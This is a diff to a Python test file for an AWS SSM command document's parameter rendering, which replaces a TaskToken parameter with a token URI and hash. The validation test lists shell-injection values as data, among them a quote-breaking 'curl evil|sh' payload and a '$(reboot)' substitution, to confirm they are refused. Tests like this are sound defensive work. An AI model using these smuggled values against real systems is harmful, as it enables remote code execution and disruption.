@@ -20,7 +20,8 @@ GIVEN = {
     "PlanUrl": ["https://bucket.s3.eu-west-1.amazonaws.com/runs/r/c/plan.json?X-Amz-Signature=de"],
     "PlanSha256": ["b" * 64],
     "OutputUri": ["s3://bucket/runs/r/c/agent/"],
-    "TaskToken": ["token-1"],
+    "TaskTokenUri": ["s3://bucket/runs/r/c/instances/AROAEXAMPLEROLE12345:i-0abc/task-token"],
+    "TaskTokenSha256": ["c" * 64],
     "Region": ["eu-west-1"],
 }
 
@@ -38,6 +39,10 @@ def test_every_placeholder_is_substituted_and_defaults_apply(document: CommandDo
     assert "--heartbeat-s '120'" in step.script  # HeartbeatSeconds' default
     assert f"echo '{'a' * 64}  agent.pyz' | sha256sum --check" in step.script
     assert f"--plan-sha256 '{'b' * 64}'" in step.script
+    assert f"--task-token-sha256 '{'c' * 64}'" in step.script
+    assert "--task-token-uri 's3://bucket/runs/r/c/instances/AROAEXAMPLEROLE12345:i-0abc/task-token'" in (
+        step.script
+    )
     assert (
         "'https://bucket.s3.eu-west-1.amazonaws.com/agent/agent.pyz?X-Amz-Signature=ab%2Fc&X-Amz-Expires=3600'"
         in (step.script)
@@ -59,7 +64,8 @@ def test_the_step_timeout_is_the_execution_timeout_given(document: CommandDocume
         ({"Region": ["a", "b"]}, "Region: a String parameter takes exactly one value"),
         # a value that would leave its single quotes in the shell is refused before it runs
         ({"PlanUrl": ["https://x/p' ; curl evil|sh '"]}, "PlanUrl: .* does not match allowedPattern"),
-        ({"TaskToken": ["t'$(reboot)'"]}, "TaskToken: .* does not match allowedPattern"),
+        ({"TaskTokenUri": ["s3://b/k'$(reboot)'"]}, "TaskTokenUri: .* does not match allowedPattern"),
+        ({"TaskTokenSha256": ["AQCE-a-token"]}, "TaskTokenSha256: .* does not match allowedPattern"),
         ({"OutputUri": ["s3://bucket/a b"]}, "OutputUri: 's3://bucket/a b' does not match"),
     ],
 )
@@ -71,8 +77,8 @@ def test_parameters_ssm_would_refuse_are_refused_with_their_name(
 
 
 def test_a_required_parameter_left_out_is_named(document: CommandDocument) -> None:
-    given = {k: v for k, v in GIVEN.items() if k != "TaskToken"}
-    with pytest.raises(InvalidParametersError, match="TaskToken: required and not given"):
+    given = {k: v for k, v in GIVEN.items() if k != "TaskTokenUri"}
+    with pytest.raises(InvalidParametersError, match="TaskTokenUri: required and not given"):
         document.render(given)
 
 
